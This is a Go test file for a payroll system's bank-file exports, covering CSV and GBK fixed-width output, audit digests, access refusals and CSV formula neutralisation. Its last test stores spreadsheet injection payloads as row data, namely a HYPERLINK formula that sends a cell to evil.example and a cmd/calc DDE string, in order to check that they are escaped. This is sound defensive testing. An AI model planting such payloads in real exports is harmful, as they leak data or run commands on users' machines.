package engine_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/growth-gov/growth/engine"
	"github.com/growth-gov/growth/engine/enginetest"
	"github.com/growth-gov/growth/engine/filter"
	"github.com/growth-gov/growth/metamodel"
	"golang.org/x/text/encoding/simplifiedchinese"
)

var updateGolden = flag.Bool("update-golden", false, "rewrite engine/testdata/*.golden.* from the current output")

// scopedAccess is a test Access: an actor with an org sees the records whose
// agency is that org; deny and hidden switch off "user entity.action" and
// "user entity.field".
type scopedAccess struct {
	deny   map[string]bool
	hidden map[string]bool
}

func (a scopedAccess) Can(actor engine.Actor, e *metamodel.Entity, action string) bool {
	return !a.deny[actor.User+" "+e.Name+"."+action]
}

func (a scopedAccess) Scope(actor engine.Actor, e *metamodel.Entity) filter.Node {
	if actor.Org == "" || e.Field("agency") == nil {
		return nil
	}
	return &filter.Compare{Field: "agency", Op: filter.Eq, Value: filter.Value{Kind: filter.String, Text: actor.Org}}
}

func (a scopedAccess) Sees(actor engine.Actor, e *metamodel.Entity, rec *engine.Record) bool {
	return actor.Org == "" || e.Field("agency") == nil || rec.Values["agency"] == actor.Org
}

func (a scopedAccess) Hidden(actor engine.Actor, e *metamodel.Entity, field string) bool {
	return a.hidden[actor.User+" "+e.Name+"."+field]
}

func (a scopedAccess) ReadOnly(engine.Actor, *metamodel.Entity, string) bool { return false }

var exportDefs = map[string]string{"pay/app.yaml": `
app: pay
title: 代发
codesets:
  org:
    title: 单位
    levels: [3, 3]
    codes:
      - {code: "101", name: 财政厅}
      - {code: "101001", name: 财政厅本级, parent: "101"}
      - {code: "102", name: 教育厅}
      - {code: "102001", name: 教育厅本级, parent: "102"}
entities:
  batch:
    title: 发放批次
    org_field: agency
    fields:
      month:     {type: string, required: true}
      agency:    {type: code, codeset: org}
      net_total: {type: money, label: 实发合计}
  line:
    title: 发放明细
    org_field: agency
    fields:
      batch:      {type: ref, entity: batch, required: true}
      agency:     {type: code, codeset: org}
      account_no: string
      name:       string
      net:        money
      id_number:  string
exports:
  bank_csv:
    title: 银行文件
    entity: batch
    lines: {entity: line, via: batch, where: "net > '0'"}
    header: true
    columns:
      - {title: 账号, expr: "line.account_no"}
      - {title: 户名, expr: "line.name"}
      - {title: 金额, expr: "line.net"}
      - {title: "备注, 月份", expr: "record.month + ' 工资'"}
    total: {expr: "line.net", equals: net_total}
  bank_fixed:
    title: 银行定长文件
    entity: batch
    lines: {entity: line, via: batch, where: "net > '0'", sort: "-account_no"}
    format: fixed
    encoding: gbk
    filename: "'BANK' + record.month + '.txt'"
    columns:
      - {title: 账号, expr: "line.account_no", width: 20}
      - {title: 户名, expr: "line.name", width: 10}
      - {title: 金额, expr: "line.net", width: 12, align: right, pad: "0"}
      - {title: 序号, expr: "line.id", width: 4, align: right}
    total: {expr: "line.net", equals: net_total}
  ids:
    title: 身份证号清单
    entity: batch
    lines: {entity: line, via: batch}
    separator: "|"
    newline: lf
    columns:
      - {title: 身份证号, expr: "line.id_number"}
      - {title: 单位, expr: "line.agency"}
`}

type exportFixture struct {
	rt    *engine.Runtime
	batch int64
	lines []int64
}

// newExportFixture makes batch 2026-03 of agency 101001 with three lines
// (one of them 0.00, left out of the bank files) and a line of another batch.
func newExportFixture(t *testing.T, d engine.Dialect) *exportFixture {
	t.Helper()
	rt := enginetest.Start(t, d, enginetest.Load(t, exportDefs), engine.OpenAccess{})
	ctx := context.Background()
	sys := engine.SystemActor
	f := &exportFixture{rt: rt}
	f.batch = enginetest.Must(rt.Create(ctx, sys, "pay", "batch", map[string]any{"month": "2026-03", "agency": "101001", "net_total": "3001.50"})).ID
	other := enginetest.Must(rt.Create(ctx, sys, "pay", "batch", map[string]any{"month": "2026-04", "agency": "101001", "net_total": "1.00"})).ID
	for _, l := range []struct {
		batch                           int64
		agency, account, name, net, idn string
	}{
		{f.batch, "101001", "6222000011112222", "张三", "1000.00", "510104199001011234"},
		{f.batch, "101001", "6222000033334444", "李四", "2001.50", "51010419900202123X"},
		{f.batch, "101001", "6222000055556666", "王五", "0.00", "510104199003031235"},
		{other, "101001", "6222000077778888", "赵六", "1.00", "510104199004041236"},
		{f.batch, "102001", "6222000099990000", "钱七", "0.00", "510104199005051237"},
	} {
		rec := enginetest.Must(rt.Create(ctx, sys, "pay", "line", map[string]any{"batch": l.batch, "agency": l.agency,
			"account_no": l.account, "name": l.name, "net": l.net, "id_number": l.idn}))
		f.lines = append(f.lines, rec.ID)
	}
	return f
}

// golden compares got with testdata/name, or writes it with -update-golden.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *updateGolden {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (go test ./engine -run %s -update-golden writes it)", err, t.Name())
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs (if the change is meant, rewrite it with -update-golden and review the diff):\n%s", path, firstDifference(want, got))
	}
}

// firstDifference shows the first line where got departs from want.
func firstDifference(want, got []byte) string {
	w, g := bytes.Split(want, []byte("\n")), bytes.Split(got, []byte("\n"))
	for i := 0; i < len(w) || i < len(g); i++ {
		var wl, gl []byte
		if i < len(w) {
			wl = w[i]
		}
		if i < len(g) {
			gl = g[i]
		}
		if !bytes.Equal(wl, gl) || i >= len(w) || i >= len(g) {
			return fmt.Sprintf("line %d:\n--- got\n%q\n--- want\n%q", i+1, gl, wl)
		}
	}
	return "(the same lines)"
}

// exportAudits returns the audit actions and changes written for record id.
func exportAudits(t *testing.T, rt *engine.Runtime, id int64) []string {
	t.Helper()
	rows, err := rt.DB.Read.QueryContext(context.Background(), `SELECT action, changes FROM growth_audit WHERE app = 'pay' AND entity = 'batch' AND record_id = `+rt.DB.Placeholder(1)+` AND action LIKE 'export:%' ORDER BY id`, id)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var out []string
	for rows.Next() {
		var action, changes string
		if err := rows.Scan(&action, &changes); err != nil {
			t.Fatal(err)
		}
		out = append(out, action+" "+changes)
	}
	return out
}

func TestExportFiles(t *testing.T) {
	enginetest.ForEachDB(t, func(t *testing.T, d engine.Dialect) {
		f := newExportFixture(t, d)
		ctx := context.Background()
		clerk := engine.Actor{User: "clerk"}
		scenarios := []struct {
			name, export, golden, fileName, contentType string
			lines                                       int
			total                                       string
		}{
			{"csv with header, utf-8, crlf", "bank_csv", "export_bank.golden.csv", "bank_csv_1.csv", "text/csv; charset=utf-8", 2, "3001.50"},
			{"fixed width, gbk, zero padded", "bank_fixed", "export_bank.golden.txt", "BANK2026-03.txt", "text/plain; charset=GBK", 2, "3001.50"},
			{"csv without header, separator |, lf, no total", "ids", "export_ids.golden.csv", "ids_1.csv", "text/csv; charset=utf-8", 4, ""},
		}
		for _, sc := range scenarios {
			t.Run(sc.name, func(t *testing.T) {
				out, err := f.rt.Export(ctx, clerk, "pay", "batch", f.batch, sc.export)
				if err != nil {
					t.Fatal(err)
				}
				golden(t, sc.golden, out.Data)
				if out.Name != sc.fileName || out.ContentType != sc.contentType || out.Lines != sc.lines {
					t.Errorf("name %q, type %q, lines %d; want %q, %q, %d", out.Name, out.ContentType, out.Lines, sc.fileName, sc.contentType, sc.lines)
				}
				if got := out.TotalText(); got != sc.total {
					t.Errorf("total %q, want %q", got, sc.total)
				}
				sum := sha256.Sum256(out.Data)
				audits := exportAudits(t, f.rt, f.batch)
				last := audits[len(audits)-1]
				if !strings.HasPrefix(last, "export:"+sc.export+" ") || !strings.Contains(last, hex.EncodeToString(sum[:])) {
					t.Errorf("audit row %q does not record export:%s with the file's digest", last, sc.export)
				}
			})
		}
		t.Run("the fixed file reads back in GBK, two bytes per Chinese character", func(t *testing.T) {
			out := enginetest.Must(f.rt.Export(ctx, clerk, "pay", "batch", f.batch, "bank_fixed"))
			text, err := simplifiedchinese.GBK.NewDecoder().Bytes(out.Data)
			if err != nil {
				t.Fatal(err)
			}
			rows := strings.Split(strings.TrimSuffix(string(text), "\r\n"), "\r\n")
			if len(rows) != 2 || !strings.HasPrefix(rows[0], "6222000033334444    李四      000002001.50") {
				t.Fatalf("rows %q", rows)
			}
			for _, row := range strings.Split(strings.TrimSuffix(string(out.Data), "\r\n"), "\r\n") {
				if len(row) != 20+10+12+4 {
					t.Errorf("row %q is %d bytes, want 46", row, len(row))
				}
			}
		})
		if rep := enginetest.Must(f.rt.VerifyProof(ctx)); !rep.OK() {
			t.Fatalf("audit: %v %v %v", rep.Audit.Broken, rep.Problems, rep.Ledger.Problems)
		}
	})
}

func TestExportRefusals(t *testing.T) {
	enginetest.ForEachDB(t, func(t *testing.T, d engine.Dialect) {
		f := newExportFixture(t, d)
		rt := f.rt
		ctx := context.Background()
		rt.Access = scopedAccess{
			deny:   map[string]bool{"reader batch.export": true},
			hidden: map[string]bool{"privacy line.id_number": true},
		}
		sys := engine.SystemActor
		batch := func() *engine.Record { return enginetest.Must(rt.Get(ctx, sys, "pay", "batch", f.batch)) }
		scenarios := []struct {
			name, entity, export string
			actor                engine.Actor
			prepare              func(t *testing.T)
			want                 func(err error) bool
			message              string
		}{
			{"the total does not equal the record's field", "batch", "bank_csv", engine.Actor{User: "clerk"},
				func(t *testing.T) {
					enginetest.Must(rt.Update(ctx, sys, "pay", "batch", f.batch, batch().Version, map[string]any{"net_total": "3000.00"}))
				},
				isConflict("export_total"), "文件合计 3001.50 与发放批次 #1 的实发合计 3000.00 不符"},
			{"a value wider than its column", "batch", "bank_fixed", engine.Actor{User: "clerk"},
				func(t *testing.T) {
					enginetest.Must(rt.Update(ctx, sys, "pay", "batch", f.batch, batch().Version, map[string]any{"net_total": "3001.50"}))
					line := enginetest.Must(rt.Get(ctx, sys, "pay", "line", f.lines[1]))
					enginetest.Must(rt.Update(ctx, sys, "pay", "line", line.ID, line.Version, map[string]any{"name": "欧阳诸葛长名"}))
				},
				isConflict("export_width"), "（发放明细 #2）“户名”的值“欧阳诸葛长名”占 12 字节，超过宽度 10"},
			{"a character GBK cannot write", "batch", "bank_fixed", engine.Actor{User: "clerk"},
				func(t *testing.T) {
					line := enginetest.Must(rt.Get(ctx, sys, "pay", "line", f.lines[1]))
					enginetest.Must(rt.Update(ctx, sys, "pay", "line", line.ID, line.Version, map[string]any{"name": "李😀"}))
				},
				isConflict("export_encoding"), "GBK 无法表示"},
			{"no export permission", "batch", "ids", engine.Actor{User: "reader"}, nil,
				func(err error) bool { return errors.Is(err, engine.ErrForbidden) }, "您无权导出发放批次"},
			{"a column shows a field hidden from the reader", "batch", "ids", engine.Actor{User: "privacy"}, nil,
				func(err error) bool { return errors.Is(err, engine.ErrForbidden) }, "不可见的字段 line.id_number"},
			{"a record outside the reader's scope", "batch", "ids", engine.Actor{User: "other", Org: "102001"}, nil,
				func(err error) bool { return errors.Is(err, engine.ErrNotFound) }, "发放批次 #1"},
			{"an export named on another entity", "line", "ids", engine.Actor{User: "clerk"}, nil,
				func(err error) bool { return errors.Is(err, engine.ErrUnknown) }, "导出文件 pay.line.ids"},
		}
		for _, sc := range scenarios {
			t.Run(sc.name, func(t *testing.T) {
				if sc.prepare != nil {
					sc.prepare(t)
				}
				before := len(exportAudits(t, rt, f.batch))
				out, err := rt.Export(ctx, sc.actor, "pay", sc.entity, f.batch, sc.export)
				if err == nil || !sc.want(err) || !strings.Contains(err.Error(), sc.message) {
					t.Fatalf("got %v (file %v), want an error containing %q", err, out != nil, sc.message)
				}
				if after := len(exportAudits(t, rt, f.batch)); after != before {
					t.Errorf("a refused export left %d audit rows", after-before)
				}
			})
		}
		t.Run("lines outside the reader's scope are left out", func(t *testing.T) {
			out := enginetest.Must(rt.Export(ctx, engine.Actor{User: "clerk101", Org: "101001"}, "pay", "batch", f.batch, "ids"))
			if got := string(out.Data); strings.Contains(got, "102001") || strings.Count(got, "\n") != 3 {
				t.Errorf("file %q: want the three lines of 101001 only", got)
			}
		})
	})
}

func isConflict(code string) func(error) bool {
	return func(err error) bool {
		var ce *engine.ConflictError
		return errors.As(err, &ce) && string(ce.Code) == code
	}
}

// A CSV export neutralises text that a spreadsheet would run as a formula
// (a leading apostrophe), and leaves numbers as they are: -12.50 is an
// amount. A fixed-width file is not a spreadsheet's and is not changed.
func TestExportNeutralisesFormulas(t *testing.T) {
	defs := map[string]string{"pay/app.yaml": strings.Replace(exportDefs["pay/app.yaml"], "  ids:\n", `  all:
    title: 全部明细
    entity: batch
    lines: {entity: line, via: batch, sort: "id"}
    columns:
      - {title: 户名, expr: "line.name"}
      - {title: 金额, expr: "line.net"}
      - {title: 备注, expr: "'-' + record.month"}
  ids:
`, 1)}
	enginetest.ForEachDB(t, func(t *testing.T, d engine.Dialect) {
		rt := enginetest.Start(t, d, enginetest.Load(t, defs), engine.OpenAccess{})
		ctx := context.Background()
		sys := engine.SystemActor
		batch := enginetest.Must(rt.Create(ctx, sys, "pay", "batch", map[string]any{"month": "2026-03", "agency": "101001"})).ID
		for _, l := range []struct{ name, net string }{
			{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "-12.50"},
			{"+1+cmd|' /C calc'!A0", "3.00"},
			{"@SUM(1+1)", "0.00"},
			{"\t=1+1", "-0.01"},
			{"张三", "1000.00"},
		} {
			enginetest.Must(rt.Create(ctx, sys, "pay", "line", map[string]any{"batch": batch, "agency": "101001", "name": l.name, "net": l.net}))
		}
		out, err := rt.Export(ctx, sys, "pay", "batch", batch, "all")
		if err != nil {
			t.Fatal(err)
		}
		want := "'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-12.50,'-2026-03\r\n" +
			"'+1+cmd|' /C calc'!A0,3.00,'-2026-03\r\n" +
			"'@SUM(1+1),0.00,'-2026-03\r\n" +
			"'\t=1+1,-0.01,'-2026-03\r\n" +
			"张三,1000.00,'-2026-03\r\n"
		want = `"` + want // the first cell holds quotes, so it is quoted
		if string(out.Data) != want {
			t.Errorf("export:\n%q\nwant\n%q", out.Data, want)
		}
	})
}
